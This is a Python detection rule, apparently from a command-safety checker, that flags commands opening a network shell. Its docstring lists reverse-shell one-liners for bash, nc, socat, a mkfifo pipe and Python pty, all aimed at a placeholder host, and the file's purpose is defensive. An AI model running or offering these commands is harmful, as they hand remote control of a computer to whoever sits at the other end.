r"""Opens a network shell.

A shell of this computer is put on a network connection. Whoever is at the other end can type commands that run here
with your rights, for as long as the connection lasts.

Flags:
    EXEC-NETSHELL        bash -c 'bash -i >& /dev/tcp/files.example.com/99 0>&1'
    EXEC-NETSHELL        nc -e /bin/sh files.example.com 99
    EXEC-NETSHELL        socat tcp:files.example.com:99 exec:/bin/sh
    EXEC-NETSHELL        sh -c 'mkfifo p; cat p | sh -i 2>&1 | nc files.example.com 99 > p'
    EXEC-NETSHELL        python3 -c 'import socket,os,pty; s=socket.socket(); s.connect(("files.example.com", 99));
                             os.dup2(s.fileno(), 0); pty.spawn("sh")'
Passes:
    socat - tcp:files.example.com:99
    nc files.example.com 99
    sh -c 'echo ping | nc files.example.com 99'
    ssh user@files.example.com
    python3 -c 'import socket; print(socket.gethostname())'
Source: MITRE ATT&CK T1059.004; ncat(1); socat(1).
"""

from __future__ import annotations

from collections.abc import Iterator

from consentry.effects import Effect
from consentry.language import _
from consentry.model import Finding, Level
from consentry.rules.interface import Case, Wording, every, on_part
from consentry.rules.scripts import LONGEST, tell, wired

IDS: tuple[str, ...] = ("EXEC-NETSHELL",)

NETSHELL = Wording(
    id="EXEC-NETSHELL",
    level=Level.DANGER,
    title=_("Opens a network shell"),
    says=_("This gives somebody on the network a shell on this computer."),
    consequence=_("Somebody on the network can type commands here."),
    phrase="open a remote shell",
)


def check(case: Case, /) -> Iterator[Finding]:
    """Findings about shells on a connection."""
    for told, command in wired(case):
        yield tell(NETSHELL, case, told, command)
    for part in every(case.plan):
        powershell = part.runner == "powershell" and part.effect in (Effect.SHELL_TEXT, Effect.ENCODED)
        if part.effect == Effect.INLINE_CODE or powershell:
            from consentry.script.inline import connects_a_shell

            if connects_a_shell(part.detail[:LONGEST]):
                yield on_part(NETSHELL, case, part)
